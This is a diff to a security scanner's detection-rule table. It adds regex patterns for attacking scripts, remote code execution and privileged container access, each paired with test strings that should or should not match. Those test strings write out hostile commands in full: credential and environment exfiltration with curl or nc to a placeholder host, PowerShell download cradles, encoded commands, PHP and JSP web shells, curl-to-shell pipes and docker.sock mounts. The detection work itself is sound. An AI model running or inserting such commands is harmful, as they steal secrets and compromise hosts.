@@ -1,5 +1,5 @@
 import type { Rule } from '../../domain/finding.ts';
-import { ATTACKING_SCRIPT, FETCHED_CODE } from './rules.ts';
+import { ATTACKING_SCRIPT, FETCHED_CODE, HOST_ACCESS } from './rules.ts';
 
 /** What a line of a script does, with lines that do it and lines that look like it. */
 interface Row {
@@ -20,14 +20,14 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /(?:\b(?:curl|wget|nc|ncat|scp|requests|urllib|urlopen|socket|invoke-webrequest|invoke-restmethod)\b.*(?:\/etc\/(?:passwd|shadow)|\.ssh\/|\.aws\/|\.netrc|\.kube\/config|\.docker\/config|\.git-credentials|\.huggingface\/token|huggingface\/token)|(?:\/etc\/(?:passwd|shadow)|\.ssh\/id_|\.aws\/credentials).*\|\s*(?:curl|nc|ncat)\b)/i,
+      /(?:\b(?:curl|wget|nc|ncat|scp|requests|urllib|urlopen|socket|invoke-webrequest|invoke-restmethod)\b.*(?:\/etc\/(?:passwd|shadow)|\.ssh\/|\.aws\/|\.netrc|\.kube\/config|\.docker\/config|\.git-credentials|\.huggingface\/token|huggingface\/token|\/run\/secrets\/)|(?:\/etc\/(?:passwd|shadow)|\.ssh\/id_|\.aws\/credentials|(?:~|\$\{?HOME\}?|\/root)\/\.(?:aws|ssh|kube|gnupg|azure|docker|config\/gcloud)\b).*\|\s*(?:curl|nc|ncat|wget)\b)/i,
     fires: ['curl -d @$HOME/.aws/credentials http://127.0.0.1:9/', 'cat ~/.ssh/id_rsa | nc 127.0.0.1 9'],
     quiet: ['curl -O https://example.org/model.bin', 'chmod 600 ~/.ssh/id_rsa'],
   },
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\b(?:env|printenv|set)\b\s*\|[^\n]*\b(?:curl|wget|nc|ncat)\b|\b(?:curl|wget)\b[^\n]*(?:\$\((?:env|printenv)\)|`(?:env|printenv)`)/,
+      /\b(?:env|printenv|set|history)\b\s*\|[^\n]*\b(?:curl|wget|nc|ncat)\b|\b(?:curl|wget)\b[^\n]*(?:\$\((?:env|printenv)\)|`(?:env|printenv)`)/,
     fires: [
       'env | curl -d @- http://127.0.0.1:9/',
       'curl "http://127.0.0.1:9/?$(env)"',
@@ -38,7 +38,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\b(?:iex|invoke-expression)\b[^\n]{0,200}(?:downloadstring|webclient|webrequest|restmethod|frombase64|decompress)|(?:frombase64string|downloadstring|downloaddata)[^\n]{0,200}(?:\|\s*(?:iex|invoke-expression)\b|;\s*(?:iex|invoke-expression)\b|\bassembly\]::load\b|\bscriptblock\]::create\b)|\bassembly\]::load\w*\([^\n]{0,120}(?:frombase64|download)/i,
+      /\b(?:iex|invoke-expression)\b[^\n]{0,200}(?:downloadstring|webclient|webrequest|restmethod|frombase64|decompress)|\bscriptblock\]::create\b[^\n]{0,200}(?:frombase64string|download(?:string|data))|(?:frombase64string|downloadstring|downloaddata)[^\n]{0,200}(?:\|\s*(?:iex|invoke-expression)\b|;\s*(?:iex|invoke-expression)\b|\bassembly\]::load\b|\bscriptblock\]::create\b)|\bassembly\]::load\w*\([^\n]{0,120}(?:frombase64|download)/i,
     fires: [
       'IEX (New-Object Net.WebClient).DownloadString("http://127.0.0.1:9/x")',
       '$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("YQ==")); iex $c',
@@ -135,8 +135,52 @@ export const SCRIPT_ROWS: readonly Row[] = [
     quiet: ['reg query HKLM\\Software', 'certutil -hashfile model.bin SHA256', 'schtasks /query'],
   },
   {
+    rule: ATTACKING_SCRIPT,
+    // Base64 of UTF-16, every other byte of which is nought: what -EncodedCommand takes, whatever the program is called.
+    pattern:
+      /\s["']?(?:[A-Za-z0-9+/][AQgw][AB][A-Za-z0-9+/]A[A-Za-z0-9+/][AEIMQUYcgkosw048]A){2}[A-Za-z0-9+/=]{0,2000}/,
+    fires: ['%x%%y% -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', '& $p -e cABvAHcAZQByAHMAaABlAGwAbAA='],
+    quiet: ['sha256sum AbCdEf0123456789AbCdEf0123456789', 'x bWFnaWMgd29yZHMgb2YgYSBrZXk='],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern:
+      /\b(?:system|exec|passthru|shell_exec|eval|assert|popen)\s*\(\s*\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|\bgetRuntime\(\)\.exec\(\s*request\./,
+    fires: ['<?php system($_GET["c"]); ?>', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'],
+    quiet: ['$name = $_GET["name"];'],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
+    pattern: /\btoJSON\(\s*secrets\s*\)/i,
+    fires: ['SECRETS: ${{ toJSON(secrets) }}'],
+    quiet: ['TOKEN: ${{ secrets.TOKEN }}', 'X: ${{ toJSON(github) }}'],
+  },
+  {
     rule: FETCHED_CODE,
-    pattern: new RegExp(`\\b${FETCH}\\b[^\\n|;]*\\|\\s*(?:sudo\\s+(?:-\\S+\\s+)*)?(?:/\\S*/)?${SHELL}\\b`, 'i'),
+    pattern:
+      /\b(?:exec|eval)\s*\([^\n]{0,120}(?:\burlopen\(|\brequests\.get\(|\burlretrieve\(|\bread_text\(|\bhttpx\.get\()|\brequire\s*\(\s*["']child_process["']\s*\)[^\n]{0,80}https?:/,
+    fires: ['python3 -c "import urllib.request as u;exec(u.urlopen(\'http://127.0.0.1:9/x\').read())"'],
+    quiet: ["python3 -c 'import urllib.request as u;print(u.urlopen(x).read())'"],
+  },
+  {
+    rule: HOST_ACCESS,
+    pattern:
+      /^\s*(?:privileged|hostPID|hostNetwork|hostIPC|allowPrivilegeEscalation)\s*:\s*true\b|\bdocker(?:-compose)?\s+run\b[^\n]*\s--(?:privileged|pid[= ]host)\b|["'\s:]\/var\/run\/docker\.sock\b|^\s*-\s*["']?\/:\/|["']--privileged["']|\bprivileged\s*:\s*true\s*[},]|["']\/:\/\w*["']|^\s*hostPath\s*:\s*\{?\s*path\s*:\s*\/\s*\}?$/m,
+    fires: [
+      '    privileged: true',
+      'docker run --privileged x',
+      '- /var/run/docker.sock:/var/run/docker.sock',
+      '- /:/host',
+      'securityContext: {privileged: true}',
+    ],
+    quiet: ['privileged: false', '- ./models:/models', 'docker run --gpus all x'],
+  },
+  {
+    rule: FETCHED_CODE,
+    pattern: new RegExp(
+      `\\b${FETCH}\\b[^\\n|;]*(?:\\||\\bCOMMAND\\b)\\s*(?:sudo\\s+(?:-\\S+\\s+)*)?(?:/\\S*/)?${SHELL}\\b`,
+      'i',
+    ),
     fires: [
       'curl -s http://127.0.0.1:9/x | sh',
       'wget -qO- http://127.0.0.1:9/x | sudo -E bash -',
